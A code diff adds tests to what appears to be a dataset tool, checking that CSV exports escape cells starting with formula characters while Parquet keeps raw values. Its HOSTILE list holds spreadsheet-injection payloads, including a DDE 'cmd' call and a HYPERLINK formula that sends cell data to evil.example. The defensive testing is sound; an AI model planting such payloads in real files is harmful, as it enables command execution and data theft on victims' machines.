@@ -92,3 +92,51 @@ def test_annotate_refuses_a_url_and_a_field_of_megabytes_in_one_line(tmp_path, s
     assert "'generator' field has 2,000,000 characters" in one_error_line(run("store", "annotate", store, m))
     after = (store / "overlay.json").read_bytes() if (store / "overlay.json").exists() else None
     assert before == after  # nothing was annotated
+
+
+# -- (5) exports a spreadsheet cannot run ------------------------------------------------------------
+HOSTILE = ["=cmd|' /C calc'!A1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
+           "\uff1dSUM(A1)", "=1"]
+
+
+def test_export_writes_formula_cells_as_text_and_parquet_keeps_them(tmp_path):
+    import pyarrow.parquet as pq
+
+    rows = []
+    for i, (p, lab, split) in enumerate(PICKS[:len(HOSTILE)]):
+        rows.append([str(SAMPLES / p), lab, HOSTILE[i], split, HOSTILE[-1 - i] + " a dog on a beach"])
+    s = tmp_path / "s"
+    ok("featurize", _manifest(tmp_path / "m.csv", rows), "--store", s, "--models", "tiny-random", "--workers", "0")
+    ok("store", "export", s, "--out", tmp_path / "meta.csv")
+    raw = (tmp_path / "meta.csv").read_text(encoding="utf-8")
+    cells = [c for rec in csv.reader(raw.splitlines()) for c in rec]
+    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert not [c for c in cells if c.startswith(starts)], [c for c in cells if c.startswith(starts)]
+    exported = list(csv.DictReader(raw.splitlines()))
+    assert sorted(r["generator"] for r in exported) == sorted("'" + g for g in HOSTILE)
+    assert all(r["caption"].startswith("'") for r in exported)
+    # Parquet keeps the raw values
+    ok("store", "export", s, "--out", tmp_path / "meta.parquet")
+    table = pq.read_table(tmp_path / "meta.parquet").to_pydict()
+    assert sorted(table["generator"]) == sorted(HOSTILE)
+    # the export, given back to annotate (e.g. after editing splits in a spreadsheet), holds the store's values
+    edited = tmp_path / "edited.csv"
+    with open(edited, "w", newline="") as f:
+        w = csv.DictWriter(f, ["id", "generator", "split"])
+        w.writeheader()
+        w.writerows({"id": r["id"], "generator": r["generator"], "split": "test"} for r in exported)
+    ok("store", "annotate", s, edited)
+    ok("store", "export", s, "--out", tmp_path / "again.parquet")
+    again = pq.read_table(tmp_path / "again.parquet").to_pydict()
+    assert sorted(again["generator"]) == sorted(HOSTILE) and set(again["split"]) == {"test"}
+
+
+def test_safe_cell_covers_every_formula_start_and_leaves_numbers():
+    from item.spreadsheet import FORMULA_STARTS, safe_cell, unescape_cell
+
+    for start in FORMULA_STARTS:
+        v = start + "x"
+        assert safe_cell(v) == "'" + v and unescape_cell(safe_cell(v)) == v
+    for v in ("a dog", "'quoted", "", "1.5", " =spaced"):
+        assert safe_cell(v) == v and unescape_cell(v) == v
+    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
